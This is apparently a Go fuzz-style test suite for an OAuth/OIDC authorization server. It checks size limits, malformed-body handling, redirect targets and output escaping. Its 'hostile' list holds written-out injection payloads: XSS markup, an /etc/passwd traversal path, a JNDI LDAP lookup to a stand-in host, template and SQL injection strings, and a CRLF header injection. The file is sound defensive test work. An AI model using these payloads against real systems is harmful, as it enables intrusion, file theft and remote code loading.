package attacktest

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	at "github.com/latch-auth/latch/internal/authorize/authorizetest"
)

// TestOversizedBodies: every endpoint that reads a body answers 413 past
// 64 KiB, and stores nothing.
func TestOversizedBodies(t *testing.T) {
	e := newEnv(t)
	_, form := loginPage(t, e.Browser())
	big := strings.Repeat("a", 70<<10)
	tests := []struct{ path, contentType, body string }{
		{"/oauth/token", "application/x-www-form-urlencoded", "grant_type=authorization_code&code=" + big},
		{"/oauth/token", "application/json", `{"grant_type":"x","code":"` + big + `"}`},
		{"/oauth/revoke", "application/x-www-form-urlencoded", "token=" + big},
		{"/dbconnections/signup", "application/json", `{"client_id":"spa","email":"big@example.com","password":"` + big + `"}`},
		{"/u/login", "application/x-www-form-urlencoded", "state=" + url.QueryEscape(form.Get("state")) + "&csrf=" + form.Get("csrf") + "&username=ann@example.com&password=" + big},
		{"/u/signup", "application/x-www-form-urlencoded", "state=" + url.QueryEscape(form.Get("state")) + "&email=big@example.com&password=" + big},
		{"/authorize", "application/x-www-form-urlencoded", "client_id=spa&state=" + big},
		{"/oidc/logout", "application/x-www-form-urlencoded", "id_token_hint=" + big},
		{"/userinfo", "application/x-www-form-urlencoded", "access_token=" + big},
	}
	for _, tt := range tests {
		req, _ := http.NewRequest(http.MethodPost, e.Server.URL+tt.path, strings.NewReader(tt.body))
		req.Header.Set("Content-Type", tt.contentType)
		r := e.Browser().Do(req)
		// /userinfo reads no body: its answer (401, no token) is fine too.
		if r.Status != http.StatusRequestEntityTooLarge && !(tt.path == "/userinfo" && r.Status == http.StatusUnauthorized) {
			t.Errorf("%s %s: %d, want 413", tt.path, tt.contentType, r.Status)
		}
	}
	if _, err := e.Store.GetUserByEmail(t.Context(), "Username-Password-Authentication", "big@example.com"); err == nil {
		t.Error("an oversized sign-up created a user")
	}
}

// TestMalformedBodies: broken encodings and wrong types are a 400 with a
// readable error, never a 5xx.
func TestMalformedBodies(t *testing.T) {
	e := newEnv(t)
	tests := []struct{ path, contentType, body string }{
		{"/oauth/token", "application/x-www-form-urlencoded", "grant_type=%zz"},
		{"/oauth/token", "application/json", `{"grant_type":`},
		{"/oauth/token", "application/json", `["grant_type"]`},
		{"/oauth/token", "application/json", `{"grant_type":1}`},
		{"/oauth/token", "application/json", `{"grant_type":"authorization_code"}{"x":1}`},
		{"/oauth/token", "text/plain", "grant_type=authorization_code"},
		{"/oauth/token", "multipart/form-data; boundary=x", "--x\r\n\r\n--x--"},
		{"/oauth/token", "application/x-www-form-urlencoded; charset=\"", "a=b"},
		{"/oauth/revoke", "application/json", `{"token":null}`},
		{"/dbconnections/signup", "application/json", `{"client_id":"spa","email":["a"]}`},
		{"/dbconnections/signup", "application/json", `{"client_id":"spa","email":"x@example.com","password":"long enough 1","connection":"Username-Password-Authentication","user_metadata":"no"}`},
		{"/dbconnections/signup", "application/x-www-form-urlencoded", "client_id=spa"},
		{"/u/login", "application/x-www-form-urlencoded", "state=%zz"},
		{"/u/login", "application/x-www-form-urlencoded", ""},
		{"/u/consent", "application/x-www-form-urlencoded", "state=x&csrf=y&action=accept"},
		{"/authorize", "application/x-www-form-urlencoded", "client_id=%zz"},
	}
	for _, tt := range tests {
		req, _ := http.NewRequest(http.MethodPost, e.Server.URL+tt.path, strings.NewReader(tt.body))
		req.Header.Set("Content-Type", tt.contentType)
		r := e.Browser().Do(req)
		if r.Status < 400 || r.Status > 499 {
			t.Errorf("%s %s %q: %d %s", tt.path, tt.contentType, tt.body, r.Status, r.Body)
		}
	}
}

// hostile are values no parameter should crash on.
var hostile = []string{
	"\xff\xfe\xfd", "a\x00b", "\r\nSet-Cookie: x=1", "\x1b[31m", "\u202eevil", "\ufeff", "%00", "%zz",
	"<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", strings.Repeat("é", 3000),
	"../../../../etc/passwd", "${jndi:ldap://evil.test/a}", "{{7*7}}", "' OR '1'='1", "\t \n",
}

// TestHostileParameters puts invalid UTF-8, control characters and
// injection strings into every parameter of every endpoint: the answer is
// never a 5xx, a redirect goes only to a registered callback or logout URL,
// and nothing hostile is echoed unescaped.
func TestHostileParameters(t *testing.T) {
	e := newEnv(t)
	b := e.Browser()
	_, form := loginPage(t, b)
	authorize := at.AuthorizeParams()
	tokenForm := url.Values{"grant_type": {"authorization_code"}, "client_id": {"spa"}, "code": {"c"},
		"redirect_uri": {at.Callback}, "code_verifier": {at.Verifier}, "refresh_token": {"r"}, "scope": {"openid"}, "audience": {at.API}}
	login := url.Values{"state": {form.Get("state")}, "csrf": {form.Get("csrf")}, "username": {at.Email}, "password": {"x"}}
	logout := url.Values{"client_id": {"spa"}, "returnTo": {clientBye}, "id_token_hint": {"x"}, "post_logout_redirect_uri": {clientBye}, "state": {"s"}}
	send := func(name, method, path string, v url.Values) {
		var r *at.Resp
		if method == http.MethodGet {
			r = b.Get(path + "?" + v.Encode())
		} else {
			r = b.Post(path, v)
		}
		if r.Status >= 500 {
			t.Errorf("%s: %d %s", name, r.Status, r.Body)
		}
		if loc := r.Location(); loc != "" && !strings.HasPrefix(loc, at.Callback+"?") && !strings.HasPrefix(loc, "/u/") &&
			!strings.HasPrefix(loc, clientBye) && !strings.HasPrefix(loc, tenantBye) {
			t.Errorf("%s: redirect to %q", name, loc)
		}
		if strings.Contains(r.Body, "<script>alert(1)") || strings.Contains(r.Body, "onerror=alert(1)>") {
			t.Errorf("%s: hostile markup echoed unescaped", name)
		}
	}
	for _, h := range hostile {
		for _, ep := range []struct {
			method, path string
			base         url.Values
		}{
			{http.MethodGet, "/authorize", authorize},
			{http.MethodPost, "/authorize", authorize},
			{http.MethodPost, "/oauth/token", tokenForm},
			{http.MethodPost, "/oauth/revoke", url.Values{"client_id": {"spa"}, "token": {"t"}, "token_type_hint": {"refresh_token"}}},
			{http.MethodPost, "/u/login", login},
			{http.MethodPost, "/u/signup", url.Values{"state": {form.Get("state")}, "csrf": {form.Get("csrf")}, "email": {"n@example.com"}, "password": {"pw"}}},
			{http.MethodPost, "/u/consent", url.Values{"state": {form.Get("state")}, "csrf": {form.Get("csrf")}, "action": {"accept"}}},
			{http.MethodGet, "/u/login", url.Values{"state": {"s"}}},
			{http.MethodGet, "/v2/logout", logout},
			{http.MethodGet, "/oidc/logout", logout},
		} {
			for k := range ep.base {
				v := url.Values{}
				for kk, vv := range ep.base {
					v[kk] = append([]string(nil), vv...)
				}
				v.Set(k, h)
				send(ep.method+" "+ep.path+" "+k+"="+h, ep.method, ep.path, v)
			}
		}
		// Header values with control characters cannot be sent by a
		// conforming client; transport_test sends raw junk.
		if !strings.ContainsAny(h, "\x00\r\n\x1b") {
			req, _ := http.NewRequest(http.MethodGet, e.Server.URL+"/userinfo", nil)
			req.Header.Set("Authorization", "Bearer "+h)
			if r := b.Do(req); r.Status != http.StatusUnauthorized {
				t.Errorf("/userinfo with Authorization %q: %d", h, r.Status)
			}
		}
	}
}
